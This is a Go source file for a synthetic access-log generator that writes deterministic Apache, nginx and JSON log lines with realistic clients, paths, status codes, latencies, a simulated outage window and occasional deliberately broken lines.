package main

import (
	"errors"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// logFormat is one of the layouts loggen can write.
type logFormat int

// The layouts loggen writes. The names in formatNames are the values of -format.
const (
	fmtCombined      logFormat = iota // Apache/nginx combined
	fmtCommon                         // Apache common (CLF)
	fmtVhost                          // Apache vhost_combined: "%v:%p " + combined with %O
	fmtNginxTimed                     // nginx combined + " $request_time"
	fmtNginxUpstream                  // nginx combined + " $request_time $upstream_response_time"
	fmtJSON                           // nginx log_format escape=json, one object per line
)

// formatNames maps each logFormat to its -format name.
var formatNames = [...]string{
	fmtCombined:      "combined",
	fmtCommon:        "common",
	fmtVhost:         "vhost",
	fmtNginxTimed:    "nginx-timed",
	fmtNginxUpstream: "nginx-upstream",
	fmtJSON:          "json",
}

// String returns the -format name of f.
func (f logFormat) String() string {
	if f >= 0 && int(f) < len(formatNames) {
		return formatNames[f]
	}
	return "format(" + strconv.Itoa(int(f)) + ")"
}

// parseFormat returns the logFormat named s.
func parseFormat(s string) (logFormat, error) {
	for i, n := range formatNames {
		if n == s {
			return logFormat(i), nil
		}
	}
	return 0, fmt.Errorf("unknown format %q (want one of %s)", s, strings.Join(formatNames[:], ", "))
}

// nginx reports whether f is written by nginx (nginx escaping, 499, bytes 0 not "-").
func (f logFormat) nginx() bool {
	return f == fmtNginxTimed || f == fmtNginxUpstream || f == fmtJSON
}

// config holds everything that decides the output; the same config gives the
// same bytes.
type config struct {
	Format    logFormat
	Lines     int64     // stop after this many lines; 0 = no limit
	Size      int64     // stop before the output would exceed this many bytes; 0 = no limit
	Seed      uint64    // PRNG seed
	Paths     int       // distinct request targets
	Clients   int       // distinct clients
	Malformed float64   // fraction of broken lines, 0..1
	Start     time.Time // time of the first request; its zone is the one logged
	Rate      float64   // mean requests per second of log time

	// Incident, when IncidentFor > 0, answers IncidentShare of the requests
	// between Start+IncidentAt and Start+IncidentAt+IncidentFor with 503.
	IncidentAt    time.Duration
	IncidentFor   time.Duration
	IncidentShare float64
}

// defaultConfig returns the configuration of loggen's flag defaults, with no
// line or size limit.
func defaultConfig() config {
	return config{
		Format:        fmtCombined,
		Seed:          1,
		Paths:         50000,
		Clients:       20000,
		Malformed:     0.0005,
		Start:         time.Date(2025, 6, 2, 0, 0, 0, 0, time.FixedZone("", 2*3600)),
		Rate:          50,
		IncidentShare: 0.6,
	}
}

// validate reports the first invalid field of c.
func (c *config) validate() error {
	switch {
	case c.Format < 0 || int(c.Format) >= len(formatNames):
		return fmt.Errorf("bad format %d", c.Format)
	case c.Lines < 0:
		return errors.New("-lines must not be negative")
	case c.Size < 0:
		return errors.New("-size must not be negative")
	case c.Paths < 1:
		return errors.New("-paths must be at least 1")
	case c.Clients < 1:
		return errors.New("-clients must be at least 1")
	case !(c.Malformed >= 0 && c.Malformed <= 1):
		return errors.New("-malformed must be between 0 and 1")
	case !(c.Rate > 0) || math.IsInf(c.Rate, 0):
		return errors.New("-rate must be positive")
	case c.IncidentAt < 0 || c.IncidentFor < 0:
		return errors.New("-incident times must not be negative")
	case !(c.IncidentShare >= 0 && c.IncidentShare <= 1):
		return errors.New("-incident-share must be between 0 and 1")
	}
	return nil
}

// stats counts what [generate] wrote.
type stats struct {
	Lines     int64 // lines written, malformed ones included
	Bytes     int64 // bytes written, before any compression
	Malformed int64 // lines deliberately broken
}

// bufSize is how many bytes generate collects before each Write.
const bufSize = 1 << 20

// generate writes log lines for cfg to w until cfg.Lines lines are written or
// the next line would take the output past cfg.Size bytes; at least one of
// the two limits must be set. Lines are built into one reused buffer and
// written in blocks of about [bufSize] bytes, so w needs no buffering.
func generate(cfg config, w io.Writer) (stats, error) {
	var st stats
	if cfg.Lines == 0 && cfg.Size == 0 {
		return st, errors.New("need a line or size limit")
	}
	g, err := newGenerator(cfg)
	if err != nil {
		return st, err
	}
	buf := make([]byte, 0, bufSize+64<<10)
	for cfg.Lines == 0 || st.Lines < cfg.Lines {
		start := len(buf)
		var bad bool
		buf, bad = g.appendLine(buf)
		if cfg.Size > 0 && st.Bytes+int64(len(buf)) > cfg.Size {
			buf = buf[:start]
			break
		}
		st.Lines++
		if bad {
			st.Malformed++
		}
		if len(buf) >= bufSize {
			if _, err := w.Write(buf); err != nil {
				return st, err
			}
			st.Bytes += int64(len(buf))
			buf = buf[:0]
		}
	}
	if len(buf) > 0 {
		if _, err := w.Write(buf); err != nil {
			return st, err
		}
		st.Bytes += int64(len(buf))
	}
	return st, nil
}

// Kinds of request target, which decide methods, sizes, hosts and latency.
const (
	kindStatic = iota // files served by the web server itself
	kindPage          // HTML pages rendered by the application
	kindAPI           // JSON API behind the proxy
	kindMisc          // robots.txt, health checks and the like
)

// target is one entry of the request-target pool.
type target struct {
	text []byte // path with query string, plain ASCII needing no escaping
	kind uint8
	size int64 // typical body size in bytes
}

// Kinds of client.
const (
	clientBrowser = iota
	clientBot
	clientTool
	clientScanner
)

// client is one entry of the client pool.
type client struct {
	ip    []byte
	user  []byte // authenticated user, nil for none
	ua    int32  // index into the user-agent pool, -1 for none
	kind  uint8
	h2    bool // speaks HTTP/2
	proto []byte
}

// escStyle is how a server escapes bytes inside a quoted log field.
type escStyle uint8

const (
	escApache escStyle = iota // \" \\ \xhh (lowercase), ap_escape_logitem
	escNginx                  // \x22 \x5C \xHH (uppercase), ngx_http_log_escape
	escJSON                   // \" \\ \u00hh, bytes >= 0x80 as is; nginx escape=json
)

// Kinds of deliberately broken line.
const (
	badTruncated = iota
	badStatus
	badJunk
)

// Upstream timing shapes (nginx-upstream and json).
const (
	upNone = iota // "-": no upstream (static file, nginx-generated response)
	upOne         // one attempt
	upTwo         // two attempts, "a, b"
)

// generator builds log lines. It is deterministic: all randomness comes from
// r, seeded from the config.
type generator struct {
	cfg   config
	r     *rand.Rand
	style escStyle

	targets    []target
	targetZipf *rand.Zipf
	flaky      []int32 // targets that get most 5xx
	clients    []client
	clientZipf *rand.Zipf
	scanners   []int32  // client indices of scanners
	uas        [][]byte // escaped user agents, indexed by client.ua
	refs       [][]byte // escaped external referers
	scanPaths  [][]byte // escaped scanner targets
	tlsProbes  [][]byte // escaped TLS ClientHello prefixes
	junkText   [][]byte // stray text lines (from other logs)
	statuses   [10000]int16
	badStatus  [][]byte
	nowNs      int64
	endIncNs   int64
	startIncNs int64
	meanGapNs  float64
	diurnal    float64

	sec     int64  // second whose stamps are cached
	clfTS   []byte // 10/Oct/2000:13:55:36 -0700
	isoTS   []byte // 2000-10-10T13:55:36-07:00
	scratch []byte // scratch for same-site referers

	q request
}

// request is the logical content of one line, before formatting. Byte
// slices point into the generator's pools or scratch buffers.
type request struct {
	client  *client
	ip      []byte
	user    []byte
	method  []byte
	target  []byte // request target; nil when reqLine is set
	reqLine []byte // whole escaped request line for probes and "-" / ""
	proto   []byte
	status  int
	body    int64 // body bytes; 0 is logged "-" by Apache %b
	referer []byte
	ua      []byte
	host    []byte
	port    []byte
	kind    uint8
	rtMs    int64
	up      int
	up1Ms   int64
	up2Ms   int64
	bad     int // -1 or one of the bad* kinds
}

// newGenerator builds the pools for cfg.
func newGenerator(cfg config) (*generator, error) {
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	g := &generator{
		cfg: cfg,
		r:   rand.New(rand.NewPCG(cfg.Seed, 0x9e3779b97f4a7c15^cfg.Seed<<1)),
	}
	switch {
	case cfg.Format == fmtJSON:
		g.style = escJSON
	case cfg.Format.nginx():
		g.style = escNginx
	default:
		g.style = escApache
	}
	g.buildStatuses()
	g.buildUAs()
	g.buildTargets()
	g.buildClients()
	for _, s := range externalReferers {
		g.refs = append(g.refs, g.escape(nil, []byte(s)))
	}
	for _, s := range scannerPaths {
		g.scanPaths = append(g.scanPaths, g.escape(nil, []byte(s)))
	}
	for n := 3; n <= len(clientHello); n += 7 {
		g.tlsProbes = append(g.tlsProbes, g.escape(nil, clientHello[:n]))
	}
	for _, s := range strayLines {
		g.junkText = append(g.junkText, []byte(s))
	}
	for _, s := range []string{"2OO", "-", "0", "20", "2000", "600", "099", "abc", "5xx", "+200"} {
		g.badStatus = append(g.badStatus, []byte(s))
	}
	g.nowNs = cfg.Start.UnixNano()
	g.meanGapNs = 1e9 / cfg.Rate
	g.sec = math.MinInt64
	if cfg.IncidentFor > 0 {
		g.startIncNs = g.nowNs + int64(cfg.IncidentAt)
		g.endIncNs = g.startIncNs + int64(cfg.IncidentFor)
	}
	g.stamp()
	return g, nil
}

// buildStatuses fills the status lookup table: each code takes as many of
// the 10000 slots as its share in basis points.
func (g *generator) buildStatuses() {
	mix := []struct{ code, bp int }{
		{200, 8000}, {304, 600}, {301, 150}, {302, 250}, {404, 600},
		{403, 100}, {401, 50}, {500, 50}, {502, 30}, {503, 40}, {504, 30},
		{499, 30}, {400, 40}, {408, 30},
	}
	i := 0
	for _, m := range mix {
		code := m.code
		if code == 499 && !g.cfg.Format.nginx() {
			code = 200 // only nginx logs 499
		}
		for range m.bp {
			g.statuses[i] = int16(code)
			i++
		}
	}
}

// buildUAs escapes the user-agent pool.
func (g *generator) buildUAs() {
	for _, pool := range [][]string{browserUAs, botUAs, toolUAs, scannerUAs} {
		for _, s := range pool {
			g.uas = append(g.uas, g.escape(nil, []byte(s)))
		}
	}
}

// uaIndex returns the index in g.uas of the i-th agent of the given client kind.
func uaIndex(kind uint8, i int) int32 {
	off := 0
	for k, pool := range [][]string{browserUAs, botUAs, toolUAs, scannerUAs} {
		if k == int(kind) {
			return int32(off + i)
		}
		off += len(pool)
	}
	panic("bad client kind")
}

// buildTargets makes cfg.Paths distinct request targets; the first ones are
// the well-known hot targets of a site, the rest come from templates.
func (g *generator) buildTargets() {
	n := g.cfg.Paths
	seen := make(map[string]struct{}, n)
	add := func(b []byte, kind uint8, size int64) {
		if _, dup := seen[string(b)]; dup {
			return
		}
		seen[string(b)] = struct{}{}
		g.targets = append(g.targets, target{text: b, kind: kind, size: size})
	}
	for _, h := range hotTargets {
		if len(g.targets) == n {
			break
		}
		add([]byte(h.text), h.kind, h.size)
	}
	var b []byte
	for len(g.targets) < n {
		var kind uint8
		var size int64
		b, kind, size = g.randTarget(b[:0])
		add(append([]byte(nil), b...), kind, size)
	}
	g.targetZipf = rand.NewZipf(g.r, 1.07, 3, uint64(n-1))
	// The flaky endpoints: a handful of popular API targets.
	for i := range g.targets {
		if g.targets[i].kind == kindAPI && i < 5000 {
			g.flaky = append(g.flaky, int32(i))
			if len(g.flaky) == 12 {
				break
			}
		}
	}
	if len(g.flaky) == 0 {
		g.flaky = append(g.flaky, 0)
	}
}

// logNormal returns exp(N(ln median, sigma)).
func (g *generator) logNormal(median, sigma float64) float64 {
	return median * math.Exp(sigma*g.r.NormFloat64())
}

// randTarget appends one random request target to b.
func (g *generator) randTarget(b []byte) ([]byte, uint8, int64) {
	r := g.r
	word := func(b []byte) []byte { return append(b, words[r.IntN(len(words))]...) }
	num := func(b []byte, n int) []byte { return strconv.AppendInt(b, int64(1+r.IntN(n)), 10) }
	switch x := r.IntN(100); {
	case x < 6:
		b = append(b, "/static/js/"...)
		b = word(b)
		b = append(b, '.')
		b = g.hex(b, 8)
		return append(b, ".js"...), kindStatic, int64(g.logNormal(40000, 1))
	case x < 10:
		b = append(b, "/static/css/"...)
		b = word(b)
		b = append(b, '.')
		b = g.hex(b, 8)
		return append(b, ".css"...), kindStatic, int64(g.logNormal(15000, 0.8))
	case x < 22:
		b = append(b, "/images/products/"...)
		b = num(b, 999999)
		b = append(b, [...]string{".jpg", ".png", ".webp", "_thumb.jpg"}[r.IntN(4)]...)
		return b, kindStatic, int64(g.logNormal(60000, 1.2))
	case x < 27:
		b = append(b, "/media/uploads/"...)
		b = strconv.AppendInt(b, int64(2019+r.IntN(7)), 10)
		b = append(b, '/')
		b = appendPad2(b, 1+r.IntN(12))
		b = append(b, '/')
		b = g.uuid(b)
		b = append(b, [...]string{".jpg", ".pdf", ".mp4"}[r.IntN(3)]...)
		return b, kindStatic, int64(g.logNormal(250000, 1.5))
	case x < 37:
		b = append(b, "/blog/"...)
		b = strconv.AppendInt(b, int64(2015+r.IntN(11)), 10)
		b = append(b, '/')
		b = appendPad2(b, 1+r.IntN(12))
		b = append(b, '/')
		b = word(b)
		b = append(b, '-')
		b = word(b)
		b = append(b, '-')
		b = word(b)
		if r.IntN(5) == 0 {
			b = append(b, "?utm_source="...)
			b = append(b, [...]string{"twitter", "newsletter", "facebook", "hn"}[r.IntN(4)]...)
			b = append(b, "&utm_medium=social"...)
		}
		return b, kindPage, int64(g.logNormal(18000, 0.5))
	case x < 47:
		b = append(b, "/products/"...)
		b = word(b)
		b = append(b, '-')
		b = word(b)
		b = append(b, '-')
		b = num(b, 99999)
		return b, kindPage, int64(g.logNormal(22000, 0.4))
	case x < 52:
		b = append(b, "/category/"...)
		b = word(b)
		b = append(b, "?page="...)
		b = num(b, 40)
		b = append(b, [...]string{"", "&sort=price", "&sort=new", "&sort=price&dir=desc"}[r.IntN(4)]...)
		return b, kindPage, int64(g.logNormal(25000, 0.4))
	case x < 56:
		b = append(b, "/search?q="...)
		b = word(b)
		if r.IntN(2) == 0 {
			b = append(b, '+')
			b = word(b)
		}
		if r.IntN(3) == 0 {
			b = append(b, "&page="...)
			b = num(b, 9)
		}
		return b, kindPage, int64(g.logNormal(20000, 0.5))
	case x < 60:
		b = append(b, "/user/"...)
		b = append(b, userNames[r.IntN(len(userNames))]...)
		b = num(b, 9999)
		return b, kindPage, int64(g.logNormal(12000, 0.5))
	case x < 70:
		b = append(b, "/api/v1/users/"...)
		b = num(b, 9999999)
		b = append(b, [...]string{"", "/orders", "/cart", "/preferences", "/avatar"}[r.IntN(5)]...)
		return b, kindAPI, int64(g.logNormal(900, 1))
	case x < 78:
		b = append(b, "/api/v1/orders/"...)
		b = g.uuid(b)
		if r.IntN(4) == 0 {
			b = append(b, "/items"...)
		}
		return b, kindAPI, int64(g.logNormal(1500, 0.9))
	case x < 86:
		b = append(b, "/api/v2/products/"...)
		b = num(b, 99999)
		b = append(b, [...]string{"", "/reviews?page=1", "/reviews?page=2", "?fields=name,price", "/stock"}[r.IntN(5)]...)
		return b, kindAPI, int64(g.logNormal(2500, 1))
	case x < 92:
		b = append(b, "/api/v1/search?q="...)
		b = word(b)
		b = append(b, "&limit=20&offset="...)
		b = strconv.AppendInt(b, int64(20*r.IntN(20)), 10)
		return b, kindAPI, int64(g.logNormal(8000, 0.8))
	case x < 96:
		b = append(b, "/api/v1/items/"...)
		b = num(b, 999999)
		b = append(b, "/comments?page="...)
		b = num(b, 20)
		return b, kindAPI, int64(g.logNormal(3000, 1))
	default:
		b = append(b, "/docs/"...)
		b = word(b)
		b = append(b, '/')
		b = word(b)
		b = append(b, ".html"...)
		return b, kindPage, int64(g.logNormal(9000, 0.6))
	}
}

// hex appends n random lowercase hex digits.
func (g *generator) hex(b []byte, n int) []byte {
	const digits = "0123456789abcdef"
	v := g.r.Uint64()
	for i := range n {
		if i == 16 {
			v = g.r.Uint64()
		}
		b = append(b, digits[v&15])
		v >>= 4
	}
	return b
}

// uuid appends a random version-4 UUID.
func (g *generator) uuid(b []byte) []byte {
	b = g.hex(b, 8)
	b = append(b, '-')
	b = g.hex(b, 4)
	b = append(b, "-4"...)
	b = g.hex(b, 3)
	b = append(b, '-', "89ab"[g.r.IntN(4)])
	b = g.hex(b, 3)
	b = append(b, '-')
	return g.hex(b, 12)
}

// appendPad2 appends v as two decimal digits.
func appendPad2(b []byte, v int) []byte {
	return append(b, byte('0'+v/10%10), byte('0'+v%10))
}

// buildClients makes cfg.Clients clients, plus a small fixed set of scanners
// that only the scanner traffic uses.
func (g *generator) buildClients() {
	r := g.r
	n := g.cfg.Clients
	g.clients = make([]client, 0, n+64)
	for range n {
		c := client{ua: -1}
		switch x := r.IntN(1000); {
		case x < 25: // Googlebot
			c.kind = clientBot
			c.ua = uaIndex(clientBot, r.IntN(2))
			if r.IntN(4) == 0 {
				c.ip = fmt.Appendf(nil, "2001:4860:4801:%x::%x", 16+r.IntN(64), 1+r.IntN(255))
			} else {
				c.ip = fmt.Appendf(nil, "66.249.%d.%d", 64+r.IntN(16), 1+r.IntN(254))
			}
		case x < 35: // bingbot
			c.kind = clientBot
			c.ua = uaIndex(clientBot, 2)
			c.ip = fmt.Appendf(nil, "%s.%d", [...]string{"157.55.39", "40.77.167", "207.46.13"}[r.IntN(3)], 1+r.IntN(254))
		case x < 50: // other crawlers
			c.kind = clientBot
			c.ua = uaIndex(clientBot, 3+r.IntN(len(botUAs)-3))
			c.ip = g.ipv4(nil)
		case x < 100: // scripts, apps, monitors
			c.kind = clientTool
			c.ua = uaIndex(clientTool, r.IntN(len(toolUAs)))
			c.ip = g.randIP()
		default:
			c.kind = clientBrowser
			c.ua = uaIndex(clientBrowser, g.browserUA())
			c.ip = g.randIP()
			c.h2 = r.IntN(100) < 65
			if r.IntN(100) < 2 {
				c.user = []byte(userNames[r.IntN(len(userNames))])
				if r.IntN(2) == 0 {
					c.user = append(c.user, "@example.com"...)
				}
			}
		}
		if g.uas[c.ua][0] == '-' && len(g.uas[c.ua]) == 1 {
			c.ua = -1
		}
		c.proto = []byte("HTTP/1.1")
		if c.h2 {
			c.proto = []byte("HTTP/2.0")
		}
		g.clients = append(g.clients, c)
	}
	for range 64 {
		c := client{kind: clientScanner, ua: uaIndex(clientScanner, r.IntN(len(scannerUAs)))}
		c.ip = g.ipv4(nil)
		if g.uas[c.ua][0] == '-' && len(g.uas[c.ua]) == 1 {
			c.ua = -1
		}
		c.proto = []byte("HTTP/1.1")
		if r.IntN(3) == 0 {
			c.proto = []byte("HTTP/1.0")
		}
		g.scanners = append(g.scanners, int32(len(g.clients)))
		g.clients = append(g.clients, c)
	}
	g.clientZipf = rand.NewZipf(r, 1.1, 30, uint64(n-1))
}

// browserUA picks a browser agent: the first entries of browserUAs are the
// common ones, the rest (odd ones, with quotes or UTF-8) are rare.
func (g *generator) browserUA() int {
	if g.r.IntN(100) < 97 {
		return g.r.IntN(commonBrowserUAs)
	}
	return commonBrowserUAs + g.r.IntN(len(browserUAs)-commonBrowserUAs)
}

// randIP returns a random public-looking address, IPv6 for about one client in nine.
func (g *generator) randIP() []byte {
	if g.r.IntN(9) == 0 {
		return g.ipv6(nil)
	}
	return g.ipv4(nil)
}

// ipv4 appends a random IPv4 address outside the private and reserved ranges.
func (g *generator) ipv4(b []byte) []byte {
	r := g.r
	var a, c int
	for {
		a, c = 1+r.IntN(223), r.IntN(256)
		if a != 10 && a != 127 && a != 0 && !(a == 172 && c >= 16 && c < 32) && !(a == 192 && c == 168) && !(a == 169 && c == 254) {
			break
		}
	}
	b = strconv.AppendInt(b, int64(a), 10)
	b = append(b, '.')
	b = strconv.AppendInt(b, int64(c), 10)
	b = append(b, '.')
	b = strconv.AppendInt(b, int64(r.IntN(256)), 10)
	b = append(b, '.')
	return strconv.AppendInt(b, int64(1+r.IntN(254)), 10)
}

// ipv6 appends a random global IPv6 address in canonical (RFC 5952) form.
func (g *generator) ipv6(b []byte) []byte {
	r := g.r
	b = append(b, ipv6Prefixes[r.IntN(len(ipv6Prefixes))]...)
	if r.IntN(3) == 0 { // zero run: prefix:x::y
		b = append(b, ':')
		b = strconv.AppendUint(b, uint64(1+r.IntN(0xffff)), 16)
		b = append(b, "::"...)
		return strconv.AppendUint(b, uint64(1+r.IntN(0xffff)), 16)
	}
	for range 6 {
		b = append(b, ':')
		b = strconv.AppendUint(b, uint64(1+r.IntN(0xffff)), 16)
	}
	return b
}

// escape appends s to b escaped as the generator's server would write it
// inside a quoted field.
func (g *generator) escape(b, s []byte) []byte {
	const lower, upper = "0123456789abcdef", "0123456789ABCDEF"
	for _, c := range s {
		switch g.style {
		case escApache:
			switch {
			case c == '"' || c == '\\':
				b = append(b, '\\', c)
			case c == '\n':
				b = append(b, `\n`...)
			case c == '\r':
				b = append(b, `\r`...)
			case c == '\t':
				b = append(b, `\t`...)
			case c < 0x20 || c >= 0x7f:
				b = append(b, '\\', 'x', lower[c>>4], lower[c&15])
			default:
				b = append(b, c)
			}
		case escNginx:
			if c == '"' || c == '\\' || c < 0x20 || c >= 0x7f {
				b = append(b, '\\', 'x', upper[c>>4], upper[c&15])
			} else {
				b = append(b, c)
			}
		case escJSON:
			switch {
			case c == '"' || c == '\\':
				b = append(b, '\\', c)
			case c == '\n':
				b = append(b, `\n`...)
			case c == '\r':
				b = append(b, `\r`...)
			case c == '\t':
				b = append(b, `\t`...)
			case c < 0x20:
				b = append(b, '\\', 'u', '0', '0', lower[c>>4], lower[c&15])
			default:
				b = append(b, c)
			}
		}
	}
	return b
}

// stamp advances the clock by one exponential inter-arrival gap (a Poisson
// process whose rate follows the time of day) and refreshes the cached
// timestamps when the second changes.
func (g *generator) stamp() {
	sec := g.nowNs / 1e9
	if g.nowNs < 0 && g.nowNs%1e9 != 0 {
		sec--
	}
	if sec == g.sec {
		return
	}
	g.sec = sec
	t := time.Unix(sec, 0).In(g.cfg.Start.Location())
	g.clfTS = t.AppendFormat(g.clfTS[:0], "02/Jan/2006:15:04:05 -0700")
	g.isoTS = t.AppendFormat(g.isoTS[:0], "2006-01-02T15:04:05-07:00")
	// Traffic peaks mid-afternoon and is lowest before dawn.
	_, off := t.Zone()
	day := float64((sec+int64(off))%86400) / 86400
	if day < 0 {
		day++
	}
	g.diurnal = 1 + 0.6*math.Sin(2*math.Pi*(day-0.375))
}

// advance moves the clock to the next request.
func (g *generator) advance() {
	g.nowNs += int64(g.r.ExpFloat64() * g.meanGapNs / g.diurnal)
	g.stamp()
}

// Method names as bytes.
var (
	mGET     = []byte("GET")
	mPOST    = []byte("POST")
	mHEAD    = []byte("HEAD")
	mPUT     = []byte("PUT")
	mDELETE  = []byte("DELETE")
	mOPTIONS = []byte("OPTIONS")
	mPATCH   = []byte("PATCH")
)

// Hosts and ports of the site.
var (
	hostWWW    = []byte("www.example.com")
	hostAPI    = []byte("api.example.com")
	hostStatic = []byte("static.example.com")
	hostBare   = []byte("example.com")
	hostIP     = []byte("203.0.113.10")
	port443    = []byte("443")
	port80     = []byte("80")
	siteURL    = "https://www.example.com"
)

// method picks a method for a target kind: mostly GET, writes on the API.
func (g *generator) method(kind uint8) []byte {
	x := g.r.IntN(1000)
	switch kind {
	case kindStatic, kindMisc:
		if x < 25 {
			return mHEAD
		}
	case kindAPI:
		switch {
		case x < 130:
			return mPOST
		case x < 170:
			return mPUT
		case x < 190:
			return mDELETE
		case x < 240:
			return mOPTIONS
		case x < 250:
			return mPATCH
		case x < 255:
			return mHEAD
		}
	default:
		switch {
		case x < 30:
			return mPOST
		case x < 45:
			return mHEAD
		}
	}
	return mGET
}

// pickRequest fills g.q with the content of the next line.
func (g *generator) pickRequest() {
	r := g.r
	q := &g.q
	*q = request{bad: -1, port: port443}
	q.status = int(g.statuses[r.IntN(len(g.statuses))])
	if g.endIncNs > 0 && g.nowNs >= g.startIncNs && g.nowNs < g.endIncNs && r.Float64() < g.cfg.IncidentShare {
		q.status = 503
	}

	// Who: scanners for most probes and many 404s, anyone otherwise.
	scan := false
	switch q.status {
	case 400:
		scan = r.IntN(2) == 0
	case 404:
		scan = r.IntN(100) < 35
	case 403:
		scan = r.IntN(100) < 30
	}
	if scan {
		q.client = &g.clients[g.scanners[r.IntN(len(g.scanners))]]
	} else {
		q.client = &g.clients[g.clientZipf.Uint64()]
	}
	c := q.client
	q.ip = c.ip
	q.user = c.user
	q.proto = c.proto
	if c.ua >= 0 {
		q.ua = g.uas[c.ua]
	}

	// What.
	var t *target
	switch {
	case q.status == 400 && scan: // TLS ClientHello sent to the plain-HTTP port
		q.reqLine = g.tlsProbes[r.IntN(len(g.tlsProbes))]
		q.ua, q.user = nil, nil
		q.port = port80
	case q.status == 408 && !g.cfg.Format.nginx(): // idle preconnect: nothing was read
		q.reqLine = []byte("-")
		q.ua = nil
	case scan:
		q.target = g.scanPaths[r.IntN(len(g.scanPaths))]
		q.method = mGET
		switch r.IntN(10) {
		case 0:
			q.method = mPOST
		case 1:
			q.method = mHEAD
		}
		q.kind = kindMisc
	default:
		if q.status >= 500 && r.IntN(100) < 60 {
			t = &g.targets[g.flaky[r.IntN(len(g.flaky))]]
		} else {
			t = &g.targets[g.targetZipf.Uint64()]
		}
		q.target = t.text
		q.kind = t.kind
		q.method = g.method(t.kind)
		if q.status == 304 {
			q.method = mGET
		}
	}

	// Host, as %v or $host.
	switch {
	case q.status == 301:
		q.host, q.port = hostBare, port80
	case scan:
		q.host = hostIP
		if g.cfg.Format != fmtJSON {
			q.host = hostWWW
		}
	case q.kind == kindAPI:
		q.host = hostAPI
	case q.kind == kindStatic:
		q.host = hostStatic
	default:
		q.host = hostWWW
	}

	// Status details that depend on the method.
	if q.status == 200 {
		switch {
		case bytesEq(q.method, mOPTIONS):
			q.status = 204
		case bytesEq(q.method, mPOST) && r.IntN(4) == 0:
			q.status = 201
		case bytesEq(q.method, mDELETE):
			q.status = 204
		}
	}

	q.body = g.bodySize(t)
	if bytesEq(q.method, mHEAD) {
		q.body = 0
	}

	// Referer.
	if c.kind == clientBrowser && q.reqLine == nil {
		switch x := r.IntN(100); {
		case x < 45:
			g.scratch = append(g.scratch[:0], siteURL...)
			rt := &g.targets[g.targetZipf.Uint64()]
			if rt.kind == kindPage {
				g.scratch = append(g.scratch, rt.text...)
			} else {
				g.scratch = append(g.scratch, '/')
			}
			q.referer = g.scratch
		case x < 60:
			q.referer = g.refs[r.IntN(len(g.refs))]
		}
	} else if c.kind == clientBot && q.reqLine == nil && r.IntN(10) == 0 {
		q.referer = g.refs[0]
	}

	if g.cfg.Format == fmtNginxTimed || g.cfg.Format == fmtNginxUpstream || g.cfg.Format == fmtJSON {
		g.latency()
	}
}

// bytesEq reports whether a and b are the same slice of a pool constant.
func bytesEq(a, b []byte) bool {
	return len(a) == len(b) && len(a) > 0 && &a[0] == &b[0]
}

// bodySize returns the body size of g.q, t being its pool target or nil.
func (g *generator) bodySize(t *target) int64 {
	q := &g.q
	ng := g.cfg.Format.nginx()
	switch q.status {
	case 200, 201:
		if t == nil {
			return int64(g.logNormal(2000, 1))
		}
		switch t.kind {
		case kindStatic, kindMisc:
			return t.size
		case kindPage:
			return int64(float64(t.size) * math.Exp(0.08*g.r.NormFloat64()))
		default:
			return int64(float64(t.size)*math.Exp(0.5*g.r.NormFloat64())) + 2
		}
	case 204, 304, 499, 408:
		return 0
	case 301:
		if ng {
			return 169
		}
		return 235
	case 302:
		if ng {
			return 145
		}
		return 0 // an application redirect with an empty body
	case 400:
		if ng {
			return 157
		}
		return 226
	case 401:
		if q.kind == kindAPI {
			return 48
		}
		return 381
	case 403:
		if ng {
			return 153
		}
		return 199
	case 404:
		if q.kind == kindMisc || q.kind == kindStatic {
			if ng {
				return 153
			}
			return 196
		}
		return int64(g.logNormal(3500, 0.2))
	case 500:
		return int64(g.logNormal(600, 0.5))
	case 502:
		return 157
	case 503:
		if ng {
			return 197
		}
		return 299
	case 504:
		return 167
	}
	return int64(g.logNormal(500, 1))
}

// latency fills the request and upstream times of g.q: log-normal with a
// heavy Pareto tail for application requests, about a millisecond for
// static files, exactly 60 s for most gateway timeouts.
func (g *generator) latency() {
	q := &g.q
	r := g.r
	app := q.kind == kindAPI || q.kind == kindPage
	switch {
	case q.status == 504:
		q.rtMs, q.up, q.up1Ms = 60000, upOne, 60000
		if r.IntN(10) < 3 {
			q.rtMs += int64(1 + r.IntN(4))
		}
		if r.IntN(10) == 0 {
			q.up, q.up1Ms, q.up2Ms = upTwo, 30000, 30000
		}
	case q.status == 502:
		q.rtMs = int64(r.IntN(40))
		q.up, q.up1Ms = upOne, q.rtMs
		if r.IntN(3) == 0 {
			q.up, q.up1Ms, q.up2Ms = upTwo, q.rtMs/2, q.rtMs-q.rtMs/2
		}
	case q.status == 503:
		q.rtMs = int64(r.IntN(20))
		if r.IntN(2) == 0 { // limit_req or maintenance: no upstream
			q.up = upNone
		} else {
			q.up, q.up1Ms = upOne, q.rtMs
		}
	case q.status == 499:
		q.rtMs = int64(g.logNormal(3000, 1.2))
		if q.rtMs > 59999 {
			q.rtMs = 59999
		}
		if r.IntN(10) < 3 {
			q.up = upNone
		} else {
			q.up, q.up1Ms = upOne, q.rtMs
		}
	case q.reqLine != nil || q.status == 301 || !app && q.status != 500:
		// Answered by the web server itself.
		ms := g.logNormal(0.4, 1.5)
		if q.body > 100000 {
			ms += float64(q.body) / 5e4 // slow clients on big files
		}
		q.rtMs = int64(ms)
		q.up = upNone
	default:
		med := 45.0
		if q.status == 500 {
			med = 150
		}
		ms := g.logNormal(med, 0.9)
		if r.IntN(1000) < 15 { // the heavy tail
			ms *= math.Pow(1-r.Float64(), -1/1.2)
		}
		if ms > 59999 {
			ms = 59999
		}
		q.rtMs = int64(ms)
		u := q.rtMs - int64(r.IntN(2))
		if u < 0 {
			u = 0
		}
		q.up, q.up1Ms = upOne, u
	}
}

// appendLine appends one line, newline included, and reports whether it was
// deliberately broken. It then moves the clock on to the next request.
func (g *generator) appendLine(b []byte) ([]byte, bool) {
	defer g.advance()
	g.pickRequest()
	q := &g.q
	r := g.r
	if g.cfg.Malformed > 0 && r.Float64() < g.cfg.Malformed {
		switch x := r.IntN(10); {
		case x < 4:
			q.bad = badTruncated
		case x < 7:
			q.bad = badStatus
		default:
			return g.appendJunk(b), true
		}
	}
	start := len(b)
	var statusAt int
	if g.cfg.Format == fmtJSON {
		b, statusAt = g.appendJSON(b)
	} else {
		b, statusAt = g.appendText(b)
	}
	if q.bad == badTruncated {
		cut := start + 1 + r.IntN(statusAt-start-1)
		if g.cfg.Format == fmtJSON {
			cut = start + 1 + r.IntN(len(b)-start-1)
		}
		b = b[:cut]
	}
	return append(b, '\n'), q.bad >= 0
}

